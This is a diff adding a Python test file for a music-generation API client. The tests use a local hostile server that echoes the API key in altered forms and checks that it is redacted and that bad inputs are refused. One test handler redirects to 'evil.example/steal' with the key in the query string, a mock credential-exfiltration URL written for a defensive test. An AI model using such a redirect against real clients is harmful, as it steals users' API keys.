@@ -1,0 +1,169 @@
+"""Review of the client core's hardening: attacks the first round missed, over real sockets on 127.0.0.1.
+
+A redirect's own headers and body, the key echoed in another case or URL-encoded, ids too long for a URL
+(a paid call must not be journalled "maybe charged" when nothing was sent), and numbers too large to be
+seconds: each is a `MusicGenError` with the key nowhere, never a stdlib traceback.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import urllib.parse
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hostile_server import HostileServer, RawRequest, respond
+
+from ipymusicgen.client import AsyncMusicClient, MusicClient
+from ipymusicgen.errors import APIStatusError, RedirectRefusedError, RequestValidationError
+from ipymusicgen.journal import Journal
+from ipymusicgen.sandbox import Sandbox
+
+KEY = "sk-Review+Canary/9b1e="
+"""A key with characters that URL-encoding changes, and letters of both cases."""
+
+
+@pytest.fixture(autouse=True)
+def _clean_env(monkeypatch: pytest.MonkeyPatch) -> None:
+    for name in list(os.environ):
+        if name.startswith("MUSICGEN_"):
+            monkeypatch.delenv(name)
+
+
+@pytest.fixture
+def journal(tmp_path: Path) -> Iterator[Journal]:
+    j = Journal(tmp_path / "journal.sqlite3")
+    yield j
+    j.close()
+
+
+def client_for(server: HostileServer, journal: Journal | None = None) -> MusicClient:
+    return MusicClient(
+        KEY, base_url=server.url, v2_base_url=server.url, journal=journal or False, timeout=2.0, max_retries=0
+    )
+
+
+def async_client_for(server: HostileServer) -> AsyncMusicClient:
+    return AsyncMusicClient(KEY, base_url=server.url, v2_base_url=server.url, journal=False, timeout=2.0, max_retries=0)
+
+
+def variants(key: str) -> list[str]:
+    return [key, key.upper(), key.lower(), urllib.parse.quote(key, safe=""), urllib.parse.quote_plus(key)]
+
+
+def leaks(text: str) -> list[str]:
+    return [v for v in variants(KEY) if v.lower() in text.lower()]
+
+
+def redirect_echoing_the_key(req: RawRequest, sock: Any) -> None:
+    key = req.headers.get("x-api-key", "")
+    respond(
+        sock,
+        302,
+        {"moved": key, "quoted": urllib.parse.quote(key, safe="")},
+        {"Location": f"http://evil.example/steal?k={urllib.parse.quote(key)}", "X-Echo": key},
+    )
+
+
+def test_a_refused_redirect_keeps_no_key_in_its_headers_or_body(journal: Journal) -> None:
+    seen: list[str] = []
+    with HostileServer(redirect_echoing_the_key) as server:
+        with client_for(server, journal) as client:
+            with pytest.raises(RedirectRefusedError) as read:
+                client.tasks(["t1"])
+            with pytest.raises(RedirectRefusedError) as paid:
+                client.generate(action="auto", style="x")
+
+        async def async_side() -> None:
+            async with async_client_for(server) as c:
+                await c.key_info()
+
+        with pytest.raises(RedirectRefusedError) as from_async:
+            asyncio.run(async_side())
+    for caught in (read, paid, from_async):
+        exc = caught.value
+        seen += [str(exc), repr(exc.response.headers), exc.response.content.decode(), repr(exc.body)]
+    assert not [t for t in seen if leaks(t)], [t for t in seen if leaks(t)]
+    assert not leaks(Path(journal.path).read_bytes().decode("latin-1"))
+
+
+def echo_variants(req: RawRequest, sock: Any) -> None:
+    key = req.headers.get("x-api-key", "")
+    if req.path == "/v1/get_api_key_info":
+        extra = {"upper": key.upper(), "lower": key.lower(), "quoted": urllib.parse.quote(key, safe="")}
+        respond(sock, 200, {"status": 200, "message": "ok", "data": {"key_name": key.upper(), **extra}})
+    elif req.path == "/v1/music/generate":
+        detail = [{"loc": ["body", "style"], "msg": f"bad {key.lower()}", "type": "x", "input": key.upper()}]
+        respond(sock, 422, {"detail": detail}, {"X-Echo": urllib.parse.quote_plus(key)})
+    elif req.path == "/v2/submit":  # the key in the reason phrase of an empty 503
+        sock.sendall(f"HTTP/1.1 503 {key.upper()}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".encode())
+    else:
+        respond(sock, 200, [{"id": "t1", "status": 3, "fail_reason": f"key {urllib.parse.quote_plus(key)} refused"}])
+
+
+def test_the_key_echoed_in_another_case_or_url_encoded_is_redacted(journal: Journal) -> None:
+    seen: list[str] = []
+    with HostileServer(echo_variants) as server, client_for(server, journal) as client:
+        info = client.key_info()
+        seen += [repr(info), repr(info.model_dump())]
+        (record,) = client.tasks(["t1"])
+        seen += [repr(record), record.fail_reason or ""]
+        with pytest.raises(Exception) as e422:
+            client.generate(action="auto", style="x")
+        exc: Any = e422.value
+        seen += [str(exc), repr(exc.detail), repr(exc.body), exc.response.text, repr(exc.response.headers)]
+        with pytest.raises(APIStatusError) as e503:
+            client.submit_v2(is_auto=1, model_version="v4.5", prompt="x")
+        seen += [str(e503.value), e503.value.response.reason_phrase]
+    assert not [t for t in seen if leaks(t)], [t for t in seen if leaks(t)]
+    assert "***" in (record.fail_reason or "")
+    assert not leaks(Path(journal.path).read_bytes().decode("latin-1"))
+
+
+@pytest.mark.parametrize("call", ["tasks", "query_v2", "generate_vibe", "wait"])
+def test_an_id_too_long_for_a_url_is_refused_and_nothing_is_journalled(
+    sandbox: Sandbox, journal: Journal, call: str
+) -> None:
+    long_id = "a" * 100_000
+    client = MusicClient(
+        KEY, base_url=sandbox.base_url, v2_base_url=sandbox.v2_base_url, journal=journal, allow_insecure_http=True
+    )
+    with client, pytest.raises(RequestValidationError) as caught:
+        if call == "wait":
+            client.wait([long_id], timeout=0)
+        else:
+            getattr(client, call)(long_id if call != "tasks" else [long_id])
+    assert "too long" in str(caught.value)
+    assert journal.attempts() == []  # nothing was sent, so nothing may be "maybe charged"
+
+
+@pytest.mark.parametrize(
+    "kwargs",
+    [{"timeout": 10**400}, {"interval": 10**400}, {"timeout": 1e300, "interval": 1e300}],
+    ids=["huge-timeout", "huge-interval", "1e300"],
+)
+def test_wait_refuses_seconds_too_large_to_be_seconds(sandbox: Sandbox, kwargs: dict[str, Any]) -> None:
+    with sandbox.client() as client:
+        ids = client.generate(action="auto", style="x").ids
+        with pytest.raises(RequestValidationError):
+            client.wait(ids, **kwargs)
+
+    async def async_side() -> None:
+        async with sandbox.async_client() as c:
+            await c.wait(ids, **kwargs)
+
+    with pytest.raises(RequestValidationError):
+        asyncio.run(async_side())
+
+
+@pytest.mark.parametrize("name", ["timeout", "connect_timeout", "poll_interval", "wait_timeout"])
+@pytest.mark.parametrize("value", [10**400, 1e300], ids=["huge-int", "1e300"])
+def test_settings_refuse_seconds_too_large_to_be_seconds(sandbox: Sandbox, name: str, value: Any) -> None:
+    from ipymusicgen.config import Settings
+
+    with pytest.raises(RequestValidationError) as caught:
+        MusicClient(KEY, base_url=sandbox.base_url, journal=False, settings=Settings(**{name: value}))
+    assert name in str(caught.value)
